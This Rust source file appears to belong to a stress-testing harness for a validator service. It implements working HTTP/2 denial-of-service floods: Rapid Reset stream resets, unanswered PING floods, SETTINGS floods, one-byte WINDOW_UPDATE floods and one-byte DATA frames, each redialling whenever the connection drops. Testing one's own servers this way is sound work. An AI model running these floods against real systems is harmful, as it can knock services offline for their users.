//! Attacks by frames that cost the sender next to nothing.

use std::io;
use std::time::{Duration, Instant};

use tokio::io::{AsyncReadExt, AsyncWriteExt};

use super::{SESSION, Scale};
use crate::dialled::{Target, connect};
use crate::http2::{DATA, PING, RST_STREAM, call, frame, opening, window_update};

/// Frames that are written at once.
const BATCH: u32 = 100;
/// The longest time that a flood goes on where the validator accepts no connection any more.
const LIMIT: Duration = Duration::from_secs(60);

/// Sends a frame `count` times, dialling again whenever the validator closes the connection. `start` comes first on
/// each; the validator's answers are read or left.
async fn flood(
    target: Target,
    count: u32,
    start: Vec<u8>,
    is_read: bool,
    frames: impl Fn(u32) -> Vec<u8>,
) -> io::Result<u32> {
    let (mut sent, began) = (0, Instant::now());
    while sent < count && began.elapsed() < LIMIT {
        let Ok(wire) = connect(target, target.from).await else {
            // It is turned away, which counts as an attempt.
            sent += 1;
            tokio::time::sleep(Duration::from_millis(1)).await;
            continue;
        };
        let (mut reader, mut writer) = tokio::io::split(wire.stream);
        let reading = tokio::spawn(async move {
            let mut answer = vec![0; 1 << 16];
            while is_read && reader.read(&mut answer).await.is_ok_and(|bytes| bytes > 0) {}
            if !is_read {
                std::future::pending::<()>().await;
            }
        });
        let mut of_connection = 0;
        let mut went = writer.write_all(&[opening(&[]), start.clone()].concat()).await;
        while went.is_ok() && sent < count {
            let batch: Vec<_> = (0..BATCH).flat_map(|at| frames(of_connection + at)).collect();
            let writing = tokio::time::timeout(Duration::from_secs(1), writer.write_all(&batch)).await;
            went = writing.unwrap_or_else(|_| Err(io::ErrorKind::TimedOut.into()));
            (sent, of_connection) = (sent + BATCH, of_connection + BATCH);
        }
        reading.abort();
    }
    Ok(sent)
}

/// Calls that are reset as soon as they are made.
pub async fn rapid_reset(target: Target, scale: Scale) -> io::Result<u32> {
    let pair = |at: u32| {
        let stream = 2 * at + 1;
        [call(stream, SESSION), frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes())].concat()
    };
    flood(target, scale.of(20_000), Vec::new(), true, pair).await
}

/// Pings, whose answers are not read.
pub async fn pings(target: Target, scale: Scale) -> io::Result<u32> {
    flood(target, scale.of(200_000), Vec::new(), false, |at| frame(PING, 0, 0, &u64::from(at).to_be_bytes())).await
}

/// Settings, each to be acknowledged.
pub async fn settings(target: Target, scale: Scale) -> io::Result<u32> {
    flood(target, scale.of(100_000), Vec::new(), true, |_| crate::http2::settings(&[(1, 4096)])).await
}

/// Room for one byte more, again and again.
pub async fn window_updates(target: Target, scale: Scale) -> io::Result<u32> {
    flood(target, scale.of(200_000), Vec::new(), true, |_| window_update(0, 1)).await
}

/// A call whose body comes in frames of one byte.
pub async fn tiny_data(target: Target, scale: Scale) -> io::Result<u32> {
    // Of a message of 64 KiB, the longest first one.
    let start = [call(1, SESSION), frame(DATA, 0, 1, &[0, 0, 0, 0xff, 0xff])].concat();
    flood(target, scale.of(200_000), start, true, |_| frame(DATA, 0, 1, &[0])).await
}
